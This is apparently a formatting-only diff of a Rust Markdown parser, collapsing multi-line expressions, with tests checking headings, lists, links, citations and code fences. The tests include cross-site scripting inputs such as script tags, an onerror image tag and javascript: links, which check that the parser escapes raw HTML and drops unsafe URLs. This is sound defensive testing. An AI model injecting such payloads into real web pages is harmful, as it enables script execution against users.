@@ -264,12 +264,7 @@ fn fence_open(line: &str) -> Option<Fence> {
     if len < 3 || (ch == b'`' && info.contains('`')) {
         return None;
     }
-    Some(Fence {
-        ch,
-        len,
-        indent,
-        info: info.to_owned(),
-    })
+    Some(Fence { ch, len, indent, info: info.to_owned() })
 }
 
 fn is_fence_close(line: &str, fence: &Fence) -> bool {
@@ -451,22 +446,11 @@ fn list_marker(line: &str, max_indent: usize) -> Option<ListMarker> {
     } else if spaces == 0 {
         return None;
     } else if spaces >= 5 {
-        (
-            marker_col + 1,
-            format!("{}{text}", " ".repeat(spaces - 1)),
-            false,
-        )
+        (marker_col + 1, format!("{}{text}", " ".repeat(spaces - 1)), false)
     } else {
         (col, text.to_owned(), false)
     };
-    Some(ListMarker {
-        indent,
-        kind,
-        number,
-        content_col,
-        content,
-        empty,
-    })
+    Some(ListMarker { indent, kind, number, content_col, content, empty })
 }
 
 /// True if `line` starts a block that ends a paragraph (and so cannot continue one).
@@ -508,10 +492,7 @@ fn parse_blocks(lines: &[String], depth: usize) -> Vec<Block> {
         }
         if let Some((level, content)) = atx_heading(line) {
             flush_paragraph(&mut para, &mut blocks);
-            blocks.push(Block::Heading {
-                level,
-                inlines: parse_inlines(content),
-            });
+            blocks.push(Block::Heading { level, inlines: parse_inlines(content) });
             i += 1;
             continue;
         }
@@ -519,10 +500,7 @@ fn parse_blocks(lines: &[String], depth: usize) -> Vec<Block> {
             if let Some(level) = setext_level(line) {
                 let text = paragraph_text(&para);
                 para.clear();
-                blocks.push(Block::Heading {
-                    level,
-                    inlines: parse_inlines(&text),
-                });
+                blocks.push(Block::Heading { level, inlines: parse_inlines(&text) });
                 i += 1;
                 continue;
             }
@@ -593,13 +571,7 @@ fn fenced_code(lines: &[String], i: usize, fence: Fence) -> (Block, usize) {
         }
         code.push(strip_cols(line, fence.indent));
     }
-    (
-        Block::CodeBlock {
-            lang,
-            code: code.join("\n"),
-        },
-        j,
-    )
+    (Block::CodeBlock { lang, code: code.join("\n") }, j)
 }
 
 /// The content lines of the block quote starting at line `i`, with lazy continuation
@@ -670,14 +642,7 @@ fn parse_list(lines: &[String], i: usize, first: ListMarker, depth: usize) -> (B
             _ => break,
         }
     }
-    (
-        Block::List {
-            ordered,
-            start,
-            items,
-        },
-        j,
-    )
+    (Block::List { ordered, start, items }, j)
 }
 
 fn split_row(line: &str) -> Vec<String> {
@@ -727,9 +692,7 @@ fn table_start(lines: &[String], i: usize) -> Option<Vec<String>> {
         return None;
     }
     let delimiter_cells = split_row(delimiter);
-    if delimiter_cells.len() > MAX_TABLE_COLUMNS
-        || !delimiter_cells.iter().all(|c| is_delimiter_cell(c))
-    {
+    if delimiter_cells.len() > MAX_TABLE_COLUMNS || !delimiter_cells.iter().all(|c| is_delimiter_cell(c)) {
         return None;
     }
     let cells = split_row(header);
@@ -824,22 +787,14 @@ impl BacktickIndex {
         let mut i = 0;
         while i < bytes.len() {
             if bytes.get(i) == Some(&b'`') {
-                let len = bytes
-                    .get(i..)
-                    .unwrap_or(&[])
-                    .iter()
-                    .take_while(|&&b| b == b'`')
-                    .count();
+                let len = bytes.get(i..).unwrap_or(&[]).iter().take_while(|&&b| b == b'`').count();
                 runs.entry(len).or_default().push(i);
                 i += len;
             } else {
                 i += 1;
             }
         }
-        BacktickIndex {
-            runs,
-            cursor: HashMap::new(),
-        }
+        BacktickIndex { runs, cursor: HashMap::new() }
     }
 
     /// The first run of exactly `len` backticks starting at or after `from`. Calls
@@ -872,10 +827,7 @@ fn parse_inlines(src: &str) -> Vec<Inline> {
 }
 
 fn is_special(b: u8) -> bool {
-    matches!(
-        b,
-        b'\\' | b'`' | b'*' | b'_' | b'~' | b'[' | b']' | b'!' | b'<' | b'&' | b'\n' | b'h' | b'H'
-    )
+    matches!(b, b'\\' | b'`' | b'*' | b'_' | b'~' | b'[' | b']' | b'!' | b'<' | b'&' | b'\n' | b'h' | b'H')
 }
 
 fn is_punct(c: char) -> bool {
@@ -924,9 +876,7 @@ fn decode_entity(s: &str) -> Option<(char, usize)> {
             return None;
         }
         let value = u32::from_str_radix(digits, radix).ok()?;
-        char::from_u32(value)
-            .filter(|&c| c != '\0')
-            .unwrap_or('\u{fffd}')
+        char::from_u32(value).filter(|&c| c != '\0').unwrap_or('\u{fffd}')
     } else {
         match name {
             "amp" => '&',
@@ -977,10 +927,7 @@ fn unescape(s: &str) -> String {
 }
 
 fn skip_link_ws(bytes: &[u8], mut i: usize) -> usize {
-    while bytes
-        .get(i)
-        .is_some_and(|&b| b == b' ' || b == b'\t' || b == b'\n')
-    {
+    while bytes.get(i).is_some_and(|&b| b == b' ' || b == b'\t' || b == b'\n') {
         i += 1;
     }
     i
@@ -1041,10 +988,7 @@ fn link_tail(src: &str, start: usize) -> Option<(String, usize)> {
     }
     let before_ws = i;
     i = skip_link_ws(b, i);
-    if let Some(&quote) = b
-        .get(i)
-        .filter(|&&q| i > before_ws && matches!(q, b'"' | b'\'' | b'('))
-    {
+    if let Some(&quote) = b.get(i).filter(|&&q| i > before_ws && matches!(q, b'"' | b'\'' | b'(')) {
         let close = if quote == b'(' { b')' } else { quote };
         let mut j = i + 1;
         loop {
@@ -1094,10 +1038,8 @@ fn is_email(s: &str) -> bool {
     let Some((local, domain)) = s.split_once('@') else {
         return false;
     };
-    let local_ok = !local.is_empty()
-        && local
-            .chars()
-            .all(|c| c.is_ascii_alphanumeric() || ".!#$%&'*+/=?^_`{|}~-".contains(c));
+    let local_ok =
+        !local.is_empty() && local.chars().all(|c| c.is_ascii_alphanumeric() || ".!#$%&'*+/=?^_`{|}~-".contains(c));
     let label_ok = |l: &str| {
         !l.is_empty()
             && l.len() <= 63
@@ -1111,9 +1053,7 @@ fn is_email(s: &str) -> bool {
 /// `<scheme:…>` or `<user@host>` at the start of `s`: (text, length, is email).
 fn autolink(s: &str) -> Option<(String, usize, bool)> {
     let body = s.get(1..)?;
-    let end = body
-        .bytes()
-        .position(|b| matches!(b, b'>' | b'<') || b <= b' ' || b == 0x7f)?;
+    let end = body.bytes().position(|b| matches!(b, b'>' | b'<') || b <= b' ' || b == 0x7f)?;
     if body.as_bytes().get(end) != Some(&b'>') {
         return None;
     }
@@ -1128,8 +1068,7 @@ fn autolink(s: &str) -> Option<(String, usize, bool)> {
 }
 
 fn starts_with_ignore_case(s: &str, prefix: &str) -> bool {
-    s.get(..prefix.len())
-        .is_some_and(|p| p.eq_ignore_ascii_case(prefix))
+    s.get(..prefix.len()).is_some_and(|p| p.eq_ignore_ascii_case(prefix))
 }
 
 /// The length of a bare `http(s)://` URL at the start of `s`, trailing punctuation
@@ -1145,9 +1084,7 @@ fn bare_url_len(s: &str) -> Option<usize> {
     let bytes = s.as_bytes();
     let mut end = bytes
         .iter()
-        .position(|&b| {
-            b.is_ascii_whitespace() || b < 0x20 || matches!(b, b'<' | b'>' | b'[' | b']' | b'`')
-        })
+        .position(|&b| b.is_ascii_whitespace() || b < 0x20 || matches!(b, b'<' | b'>' | b'[' | b']' | b'`'))
         .unwrap_or(s.len());
     let url = bytes.get(..end)?;
     let open = url.iter().filter(|&&b| b == b'(').count();
@@ -1156,10 +1093,7 @@ fn bare_url_len(s: &str) -> Option<usize> {
         let Some(&last) = bytes.get(end - 1) else {
             break;
         };
-        if matches!(
-            last,
-            b'?' | b'!' | b'.' | b',' | b':' | b'*' | b'_' | b'~' | b'\'' | b'"' | b';'
-        ) {
+        if matches!(last, b'?' | b'!' | b'.' | b',' | b':' | b'*' | b'_' | b'~' | b'\'' | b'"' | b';') {
             end -= 1;
         } else if last == b')' && close > open {
             end -= 1;
@@ -1281,11 +1215,7 @@ impl InlineParser<'_> {
 
     /// A node in no list yet.
     fn alloc(&mut self, kind: Kind) -> usize {
-        self.nodes.push(Node {
-            kind,
-            prev: None,
-            next: None,
-        });
+        self.nodes.push(Node { kind, prev: None, next: None });
         self.nodes.len() - 1
     }
 
@@ -1357,11 +1287,7 @@ impl InlineParser<'_> {
     }
 
     fn shrink(&mut self, i: usize, by: usize) {
-        if let Some(Node {
-            kind: Kind::Text(s),
-            ..
-        }) = self.node_mut(i)
-        {
+        if let Some(Node { kind: Kind::Text(s), .. }) = self.node_mut(i) {
             let keep = s.len().saturating_sub(by);
             s.truncate(keep);
         }
@@ -1371,10 +1297,7 @@ impl InlineParser<'_> {
 
     fn plain(&mut self) {
         let start = self.pos;
-        let first_len = rest(self.src, start)
-            .chars()
-            .next()
-            .map_or(1, char::len_utf8);
+        let first_len = rest(self.src, start).chars().next().map_or(1, char::len_utf8);
         let mut end = start + first_len;
         while self.byte(end).is_some_and(|b| !is_special(b)) {
             end += 1;
@@ -1434,17 +1357,11 @@ impl InlineParser<'_> {
         let len = self.run_len(start, b'`');
         let open_end = start + len;
         let src = self.src;
-        let index = self
-            .backticks
-            .get_or_insert_with(|| BacktickIndex::new(src));
+        let index = self.backticks.get_or_insert_with(|| BacktickIndex::new(src));
         match index.find(len, open_end) {
             Some(close) => {
                 let mut code = slice(self.src, open_end, close).replace('\n', " ");
-                if code.len() >= 2
-                    && code.starts_with(' ')
-                    && code.ends_with(' ')
-                    && !code.bytes().all(|b| b == b' ')
-                {
+                if code.len() >= 2 && code.starts_with(' ') && code.ends_with(' ') && !code.bytes().all(|b| b == b' ') {
                     code = slice(&code, 1, code.len() - 1).to_owned();
                 }
                 self.push_node(Kind::Code(code));
@@ -1471,10 +1388,7 @@ impl InlineParser<'_> {
         let after = rest(self.src, end).chars().next();
         let (left, right) = flanking(before, after);
         let (can_open, can_close) = if ch == b'_' {
-            (
-                left && (!right || before.is_some_and(is_punct)),
-                right && (!left || after.is_some_and(is_punct)),
-            )
+            (left && (!right || before.is_some_and(is_punct)), right && (!left || after.is_some_and(is_punct)))
         } else {
             (left, right)
         };
@@ -1483,25 +1397,13 @@ impl InlineParser<'_> {
             return;
         }
         let node = self.push_node(Kind::Text(text.to_owned()));
-        self.delims.push(Delim {
-            node,
-            ch,
-            count,
-            orig: count,
-            can_open,
-            can_close,
-        });
+        self.delims.push(Delim { node, ch, count, orig: count, can_open, can_close });
     }
 
     fn open_bracket(&mut self, image: bool) {
         let len = if image { 2 } else { 1 };
         let node = self.push_node(Kind::Text(if image { "![" } else { "[" }.to_owned()));
-        self.brackets.push(Bracket {
-            node,
-            image,
-            delims_at: self.delims.len(),
-            text_start: self.pos + len,
-        });
+        self.brackets.push(Bracket { node, image, delims_at: self.delims.len(), text_start: self.pos + len });
         self.pos += len;
     }
 
@@ -1518,8 +1420,7 @@ impl InlineParser<'_> {
             self.pos += 1;
             return;
         };
-        let (node, image, delims_at, text_start) =
-            (top.node, top.image, top.delims_at, top.text_start);
+        let (node, image, delims_at, text_start) = (top.node, top.image, top.delims_at, top.text_start);
         let active = image || self.brackets.len() > self.links_disabled_below;
         if !active {
             self.literal_close_bracket();
@@ -1533,11 +1434,7 @@ impl InlineParser<'_> {
             let first = self.cut_after(node);
             let href = SafeUrl::new(&dest);
             if let Some(n) = self.node_mut(node) {
-                n.kind = if image {
-                    Kind::Image { href, first }
-                } else {
-                    Kind::Link { href, first }
-                };
+                n.kind = if image { Kind::Image { href, first } } else { Kind::Link { href, first } };
             }
             if !image {
                 self.links_disabled_below = self.brackets.len();
@@ -1571,24 +1468,15 @@ impl InlineParser<'_> {
             self.pos += 1;
             return;
         };
-        let href = if email {
-            SafeUrl::new(&format!("mailto:{text}"))
-        } else {
-            SafeUrl::new(&text)
-        };
+        let href = if email { SafeUrl::new(&format!("mailto:{text}")) } else { SafeUrl::new(&text) };
         let child = self.alloc(Kind::Text(text));
-        self.push_node(Kind::Link {
-            href,
-            first: Some(child),
-        });
+        self.push_node(Kind::Link { href, first: Some(child) });
         self.pos += len;
     }
 
     fn bare_url(&mut self) -> bool {
         let before = slice(self.src, 0, self.pos).chars().next_back();
-        if !before
-            .is_none_or(|c| c.is_whitespace() || matches!(c, '*' | '_' | '~' | '(' | '"' | '\''))
-        {
+        if !before.is_none_or(|c| c.is_whitespace() || matches!(c, '*' | '_' | '~' | '(' | '"' | '\'')) {
             return false;
         }
         let Some(len) = bare_url_len(rest(self.src, self.pos)) else {
@@ -1597,10 +1485,7 @@ impl InlineParser<'_> {
         let url = slice(self.src, self.pos, self.pos + len).to_owned();
         let href = SafeUrl::new(&url);
         let child = self.alloc(Kind::Text(url));
-        self.push_node(Kind::Link {
-            href,
-            first: Some(child),
-        });
+        self.push_node(Kind::Link { href, first: Some(child) });
         self.pos += len;
         true
     }
@@ -1636,9 +1521,8 @@ impl InlineParser<'_> {
             while closer.count > 0 {
                 let key = delim_key(&closer);
                 let floor = bottom.get(key).copied().unwrap_or(0).min(openers.len());
-                let found = (floor..openers.len())
-                    .rev()
-                    .find(|&k| openers.get(k).is_some_and(|o| can_match(o, &closer)));
+                let found =
+                    (floor..openers.len()).rev().find(|&k| openers.get(k).is_some_and(|o| can_match(o, &closer)));
                 let Some(k) = found else {
                     if let Some(b) = bottom.get_mut(key) {
                         *b = openers.len();
@@ -1649,11 +1533,7 @@ impl InlineParser<'_> {
                 let Some(opener) = openers.last_mut() else {
                     break;
                 };
-                let used = if closer.ch == b'~' || (opener.count >= 2 && closer.count >= 2) {
-                    2
-                } else {
-                    1
-                };
+                let used = if closer.ch == b'~' || (opener.count >= 2 && closer.count >= 2) { 2 } else { 1 };
                 let style = match (closer.ch, used) {
                     (b'~', _) => Style::Strike,
                     (_, 2) => Style::Strong,
@@ -1687,13 +1567,7 @@ impl InlineParser<'_> {
     /// Turns the node list into the public tree, iteratively (spans can nest very
     /// deeply in hostile input). Spans deeper than MAX_DEPTH are flattened.
     fn build(&self) -> Vec<Inline> {
-        let mut stack = vec![Frame {
-            cur: self.head,
-            out: Vec::new(),
-            finish: Finish::Root,
-            depth: 0,
-            in_link: false,
-        }];
+        let mut stack = vec![Frame { cur: self.head, out: Vec::new(), finish: Finish::Root, depth: 0, in_link: false }];
         loop {
             let Some(top) = stack.last_mut() else {
                 return Vec::new();
@@ -1707,14 +1581,8 @@ impl InlineParser<'_> {
                     Finish::Style(Style::Strong) => Inline::Strong(done.out),
                     Finish::Style(Style::Emphasis) => Inline::Emphasis(done.out),
                     Finish::Style(Style::Strike) => Inline::Strike(done.out),
-                    Finish::Link(href) => Inline::Link {
-                        href,
-                        children: done.out,
-                    },
-                    Finish::Image(href) => Inline::ImagePlaceholder {
-                        alt: plain_text(&done.out),
-                        href,
-                    },
+                    Finish::Link(href) => Inline::Link { href, children: done.out },
+                    Finish::Image(href) => Inline::ImagePlaceholder { alt: plain_text(&done.out), href },
                     Finish::Flatten => {
                         if let Some(parent) = stack.last_mut() {
                             for inline in done.out {
@@ -1753,33 +1621,15 @@ impl InlineParser<'_> {
                     top.out.push(Inline::Citation(*n));
                     continue;
                 }
-                Kind::Styled { style, first } => {
-                    (*first, (!deep).then_some(Finish::Style(*style)), false)
-                }
-                Kind::Link { href, first } => (
-                    *first,
-                    (!deep && !in_link).then(|| Finish::Link(href.clone())),
-                    true,
-                ),
-                Kind::Image { href, first } => {
-                    (*first, (!deep).then(|| Finish::Image(href.clone())), true)
-                }
+                Kind::Styled { style, first } => (*first, (!deep).then_some(Finish::Style(*style)), false),
+                Kind::Link { href, first } => (*first, (!deep && !in_link).then(|| Finish::Link(href.clone())), true),
+                Kind::Image { href, first } => (*first, (!deep).then(|| Finish::Image(href.clone())), true),
             };
             let frame = match finish {
-                Some(finish) => Frame {
-                    cur: first,
-                    out: Vec::new(),
-                    finish,
-                    depth: depth + 1,
-                    in_link: in_link || link,
-                },
-                None => Frame {
-                    cur: first,
-                    out: Vec::new(),
-                    finish: Finish::Flatten,
-                    depth,
-                    in_link: in_link || link,
-                },
+                Some(finish) => {
+                    Frame { cur: first, out: Vec::new(), finish, depth: depth + 1, in_link: in_link || link }
+                }
+                None => Frame { cur: first, out: Vec::new(), finish: Finish::Flatten, depth, in_link: in_link || link },
             };
             stack.push(frame);
         }
@@ -1807,11 +1657,7 @@ mod tests {
                 out.push_str(&format!("<h{level}>{}</h{level}>", inl(inlines)));
             }
             Block::Paragraph(inlines) => out.push_str(&format!("<p>{}</p>", inl(inlines))),
-            Block::List {
-                ordered,
-                start,
-                items,
-            } => {
+            Block::List { ordered, start, items } => {
                 out.push_str(
                     match (ordered, start) {
                         (false, _) => "<ul>".to_owned(),
@@ -1834,9 +1680,7 @@ mod tests {
                 Some(lang) => out.push_str(&format!("<pre {lang}>{}</pre>", esc(code))),
                 None => out.push_str(&format!("<pre>{}</pre>", esc(code))),
             },
-            Block::Quote(blocks) => {
-                out.push_str(&format!("<blockquote>{}</blockquote>", html(blocks)))
-            }
+            Block::Quote(blocks) => out.push_str(&format!("<blockquote>{}</blockquote>", html(blocks))),
             Block::Rule => out.push_str("<hr>"),
             Block::Table { header, rows } => {
                 out.push_str("<table><tr>");
@@ -1857,14 +1701,11 @@ mod tests {
     }
 
     fn esc(s: &str) -> String {
-        s.replace('&', "&amp;")
-            .replace('<', "&lt;")
-            .replace('>', "&gt;")
+        s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
     }
 
     fn href(h: &Option<SafeUrl>) -> String {
-        h.as_ref()
-            .map_or(String::new(), |u| format!(" href={}", u.as_str()))
+        h.as_ref().map_or(String::new(), |u| format!(" href={}", u.as_str()))
     }
 
     fn inl(inlines: &[Inline]) -> String {
@@ -1893,17 +1734,10 @@ mod tests {
         for (input, expected) in cases {
             let got = html(&parse(input));
             if got != *expected {
-                failures.push(format!(
-                    "input {input:?}\n  expected {expected}\n  got      {got}"
-                ));
+                failures.push(format!("input {input:?}\n  expected {expected}\n  got      {got}"));
             }
         }
-        assert!(
-            failures.is_empty(),
-            "{} failures:\n{}",
-            failures.len(),
-            failures.join("\n")
-        );
+        assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
     }
 
     #[test]
@@ -1946,10 +1780,7 @@ mod tests {
             ("__bold__", "<p><b>bold</b></p>"),
             ("*em* and _em_", "<p><i>em</i> and <i>em</i></p>"),
             ("***both***", "<p><i><b>both</b></i></p>"),
-            (
-                "**bold *nested em* bold**",
-                "<p><b>bold <i>nested em</i> bold</b></p>",
-            ),
+            ("**bold *nested em* bold**", "<p><b>bold <i>nested em</i> bold</b></p>"),
             ("*em **strong** em*", "<p><i>em <b>strong</b> em</i></p>"),
             ("~~gone~~", "<p><s>gone</s></p>"),
             ("~~**both**~~", "<p><s><b>both</b></s></p>"),
@@ -1977,10 +1808,7 @@ mod tests {
             ("\\[1\\]", "<p>[1]</p>"),
             ("\\\\", "<p>\\</p>"),
             ("a \\q b", "<p>a \\q b</p>"),
-            (
-                "&amp; &lt;b&gt; &#65; &#x42; &bogus; & alone",
-                "<p>&amp; &lt;b&gt; A B &amp;bogus; &amp; alone</p>",
-            ),
+            ("&amp; &lt;b&gt; &#65; &#x42; &bogus; & alone", "<p>&amp; &lt;b&gt; A B &amp;bogus; &amp; alone</p>"),
             ("&#0;", "<p>\u{fffd}</p>"),
             ("*é* **日本**", "<p><i>é</i> <b>日本</b></p>"),
         ]);
@@ -1989,34 +1817,16 @@ mod tests {
     #[test]
     fn links_images_and_citations() {
         check(&[
-            (
-                "[site](https://example.com)",
-                "<p><a href=https://example.com>site</a></p>",
-            ),
-            (
-                "[t](https://e.com \"title\")",
-                "<p><a href=https://e.com>t</a></p>",
-            ),
-            (
-                "[t](<https://e.com/a b>)",
-                "<p><a href=https://e.com/a b>t</a></p>",
-            ),
+            ("[site](https://example.com)", "<p><a href=https://example.com>site</a></p>"),
+            ("[t](https://e.com \"title\")", "<p><a href=https://e.com>t</a></p>"),
+            ("[t](<https://e.com/a b>)", "<p><a href=https://e.com/a b>t</a></p>"),
             (
                 "[wiki](https://en.wikipedia.org/wiki/Rust_(language))",
                 "<p><a href=https://en.wikipedia.org/wiki/Rust_(language)>wiki</a></p>",
             ),
-            (
-                "[**bold** link](http://x.org)",
-                "<p><a href=http://x.org><b>bold</b> link</a></p>",
-            ),
-            (
-                "*[em link](http://x.org)*",
-                "<p><i><a href=http://x.org>em link</a></i></p>",
-            ),
-            (
-                "[mail](mailto:a@b.com)",
-                "<p><a href=mailto:a@b.com>mail</a></p>",
-            ),
+            ("[**bold** link](http://x.org)", "<p><a href=http://x.org><b>bold</b> link</a></p>"),
+            ("*[em link](http://x.org)*", "<p><i><a href=http://x.org>em link</a></i></p>"),
+            ("[mail](mailto:a@b.com)", "<p><a href=mailto:a@b.com>mail</a></p>"),
             ("[rel](/path)", "<p><a>rel</a></p>"),
             ("[empty]()", "<p><a>empty</a></p>"),
             ("[bad](javascript:alert(1))", "<p><a>bad</a></p>"),
@@ -2024,99 +1834,45 @@ mod tests {
                 "[a [b](http://b.com) c](http://a.com)",
                 "<p>[a <a href=http://b.com>b</a> c](<a href=http://a.com>http://a.com</a>)</p>",
             ),
-            (
-                "[not a link] (http://x.com)",
-                "<p>[not a link] (<a href=http://x.com>http://x.com</a>)</p>",
-            ),
-            (
-                "[unclosed(http://x.com)",
-                "<p>[unclosed(<a href=http://x.com>http://x.com</a>)</p>",
-            ),
-            (
-                "![a cat](https://img.example/cat.png)",
-                "<p><image href=https://img.example/cat.png alt=a cat></p>",
-            ),
+            ("[not a link] (http://x.com)", "<p>[not a link] (<a href=http://x.com>http://x.com</a>)</p>"),
+            ("[unclosed(http://x.com)", "<p>[unclosed(<a href=http://x.com>http://x.com</a>)</p>"),
+            ("![a cat](https://img.example/cat.png)", "<p><image href=https://img.example/cat.png alt=a cat></p>"),
             ("![*alt*](javascript:x)", "<p><image alt=alt></p>"),
             (
                 "[![badge](https://i/b.svg)](https://ci.example)",
                 "<p><a href=https://ci.example><image href=https://i/b.svg alt=badge></a></p>",
             ),
-            (
-                "Rust is fast [1] and safe [2].",
-                "<p>Rust is fast <cite 1> and safe <cite 2>.</p>",
-            ),
+            ("Rust is fast [1] and safe [2].", "<p>Rust is fast <cite 1> and safe <cite 2>.</p>"),
             ("Both [1, 3].", "<p>Both <cite 1><cite 3>.</p>"),
             ("[1][2]", "<p><cite 1><cite 2></p>"),
             ("[0] [x] [1a] [-1] []", "<p>[0] [x] [1a] [-1] []</p>"),
             ("[12345678901]", "<p>[12345678901]</p>"),
             ("**see [4]**", "<p><b>see <cite 4></b></p>"),
-            (
-                "[see [1]](https://x.io)",
-                "<p><a href=https://x.io>see [1]</a></p>",
-            ),
+            ("[see [1]](https://x.io)", "<p><a href=https://x.io>see [1]</a></p>"),
             ("![1]", "<p>![1]</p>"),
-            (
-                "<https://example.com/a?b=c>",
-                "<p><a href=https://example.com/a?b=c>https://example.com/a?b=c</a></p>",
-            ),
-            (
-                "<me@example.com>",
-                "<p><a href=mailto:me@example.com>me@example.com</a></p>",
-            ),
+            ("<https://example.com/a?b=c>", "<p><a href=https://example.com/a?b=c>https://example.com/a?b=c</a></p>"),
+            ("<me@example.com>", "<p><a href=mailto:me@example.com>me@example.com</a></p>"),
             ("<javascript:alert(1)>", "<p><a>javascript:alert(1)</a></p>"),
-            (
-                "see https://example.com/x.",
-                "<p>see <a href=https://example.com/x>https://example.com/x</a>.</p>",
-            ),
-            (
-                "(https://example.com/a_(b))",
-                "<p>(<a href=https://example.com/a_(b)>https://example.com/a_(b)</a>)</p>",
-            ),
-            (
-                "HTTPS://EXAMPLE.COM",
-                "<p><a href=https://EXAMPLE.COM>HTTPS://EXAMPLE.COM</a></p>",
-            ),
-            (
-                "**https://bold.example**",
-                "<p><b><a href=https://bold.example>https://bold.example</a></b></p>",
-            ),
+            ("see https://example.com/x.", "<p>see <a href=https://example.com/x>https://example.com/x</a>.</p>"),
+            ("(https://example.com/a_(b))", "<p>(<a href=https://example.com/a_(b)>https://example.com/a_(b)</a>)</p>"),
+            ("HTTPS://EXAMPLE.COM", "<p><a href=https://EXAMPLE.COM>HTTPS://EXAMPLE.COM</a></p>"),
+            ("**https://bold.example**", "<p><b><a href=https://bold.example>https://bold.example</a></b></p>"),
             ("xhttps://no.example", "<p>xhttps://no.example</p>"),
             ("https:// nothing", "<p>https:// nothing</p>"),
-            (
-                "[https://a.com](https://b.com)",
-                "<p><a href=https://b.com>https://a.com</a></p>",
-            ),
-            (
-                "http://a.com/foo_bar_baz",
-                "<p><a href=http://a.com/foo_bar_baz>http://a.com/foo_bar_baz</a></p>",
-            ),
-            (
-                "[x](https://a.com/?q=1&amp;r=2)",
-                "<p><a href=https://a.com/?q=1&r=2>x</a></p>",
-            ),
-            (
-                "[x](https://a.com/\\))",
-                "<p><a href=https://a.com/)>x</a></p>",
-            ),
+            ("[https://a.com](https://b.com)", "<p><a href=https://b.com>https://a.com</a></p>"),
+            ("http://a.com/foo_bar_baz", "<p><a href=http://a.com/foo_bar_baz>http://a.com/foo_bar_baz</a></p>"),
+            ("[x](https://a.com/?q=1&amp;r=2)", "<p><a href=https://a.com/?q=1&r=2>x</a></p>"),
+            ("[x](https://a.com/\\))", "<p><a href=https://a.com/)>x</a></p>"),
         ]);
     }
 
     #[test]
     fn raw_html_is_literal_text() {
         check(&[
-            (
-                "<script>alert(1)</script>",
-                "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
-            ),
+            ("<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
             ("<b>bold?</b>", "<p>&lt;b&gt;bold?&lt;/b&gt;</p>"),
-            (
-                "<img src=x onerror=alert(1)>",
-                "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
-            ),
-            (
-                "<div>\n*md* inside\n</div>",
-                "<p>&lt;div&gt;\n<i>md</i> inside\n&lt;/div&gt;</p>",
-            ),
+            ("<img src=x onerror=alert(1)>", "<p>&lt;img src=x onerror=alert(1)&gt;</p>"),
+            ("<div>\n*md* inside\n</div>", "<p>&lt;div&gt;\n<i>md</i> inside\n&lt;/div&gt;</p>"),
             ("<!-- comment -->", "<p>&lt;!-- comment --&gt;</p>"),
             ("a < b > c", "<p>a &lt; b &gt; c</p>"),
             ("&lt;script&gt;", "<p>&lt;script&gt;</p>"),
@@ -2137,53 +1893,26 @@ mod tests {
                 "- a\n  - b\n    - c\n- d",
                 "<ul><li><p>a</p><ul><li><p>b</p><ul><li>c</li></ul></li></ul></li><li>d</li></ul>",
             ),
-            (
-                "1. a\n  - b\n  - c\n2. d",
-                "<ol><li><p>a</p><ul><li>b</li><li>c</li></ul></li><li>d</li></ol>",
-            ),
-            (
-                "1. a\n   - b\n2. c",
-                "<ol><li><p>a</p><ul><li>b</li></ul></li><li>c</li></ol>",
-            ),
+            ("1. a\n  - b\n  - c\n2. d", "<ol><li><p>a</p><ul><li>b</li><li>c</li></ul></li><li>d</li></ol>"),
+            ("1. a\n   - b\n2. c", "<ol><li><p>a</p><ul><li>b</li></ul></li><li>c</li></ol>"),
             ("- a\n\n- b", "<ul><li>a</li><li>b</li></ul>"),
-            (
-                "- a\n\n  more a\n- b",
-                "<ul><li><p>a</p><p>more a</p></li><li>b</li></ul>",
-            ),
+            ("- a\n\n  more a\n- b", "<ul><li><p>a</p><p>more a</p></li><li>b</li></ul>"),
             ("- a\nlazy", "<ul><li>a\nlazy</li></ul>"),
             ("- a\n\nafter", "<ul><li>a</li></ul><p>after</p>"),
             ("- **bold** item", "<ul><li><b>bold</b> item</li></ul>"),
             ("-not a list", "<p>-not a list</p>"),
-            (
-                "para\n- interrupts",
-                "<p>para</p><ul><li>interrupts</li></ul>",
-            ),
-            (
-                "In 2024\n1. starts",
-                "<p>In 2024</p><ol><li>starts</li></ol>",
-            ),
-            (
-                "The year\n2024. was long",
-                "<p>The year\n2024. was long</p>",
-            ),
+            ("para\n- interrupts", "<p>para</p><ul><li>interrupts</li></ul>"),
+            ("In 2024\n1. starts", "<p>In 2024</p><ol><li>starts</li></ol>"),
+            ("The year\n2024. was long", "<p>The year\n2024. was long</p>"),
             ("-\n  foo", "<ul><li>foo</li></ul>"),
-            (
-                "- ```\n  code\n  ```\n- b",
-                "<ul><li><pre>code</pre></li><li>b</li></ul>",
-            ),
-            (
-                "- > quoted",
-                "<ul><li><blockquote><p>quoted</p></blockquote></li></ul>",
-            ),
+            ("- ```\n  code\n  ```\n- b", "<ul><li><pre>code</pre></li><li>b</li></ul>"),
+            ("- > quoted", "<ul><li><blockquote><p>quoted</p></blockquote></li></ul>"),
             ("- # head", "<ul><li><h1>head</h1></li></ul>"),
             ("- a\n---", "<ul><li>a</li></ul><hr>"),
             ("- - -", "<hr>"),
             ("- - x", "<ul><li><ul><li>x</li></ul></li></ul>"),
             ("-\tTab", "<ul><li>Tab</li></ul>"),
-            (
-                "10. ten\n11. eleven",
-                "<ol start=10><li>ten</li><li>eleven</li></ol>",
-            ),
+            ("10. ten\n11. eleven", "<ol start=10><li>ten</li><li>eleven</li></ol>"),
             ("1234567890. too long", "<p>1234567890. too long</p>"),
         ]);
     }
@@ -2195,18 +1924,9 @@ mod tests {
             ("```rust\nfn main() {}\n```", "<pre rust>fn main() {}</pre>"),
             ("```rust ignore\nx\n```", "<pre rust>x</pre>"),
             ("~~~py\nprint(1)\n~~~", "<pre py>print(1)</pre>"),
-            (
-                "```\n<script>alert(1)</script>\n```",
-                "<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>",
-            ),
-            (
-                "```\n**not md**\n\n# nor this\n```",
-                "<pre>**not md**\n\n# nor this</pre>",
-            ),
-            (
-                "```\nunterminated\nruns on",
-                "<pre>unterminated\nruns on</pre>",
-            ),
+            ("```\n<script>alert(1)</script>\n```", "<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>"),
+            ("```\n**not md**\n\n# nor this\n```", "<pre>**not md**\n\n# nor this</pre>"),
+            ("```\nunterminated\nruns on", "<pre>unterminated\nruns on</pre>"),
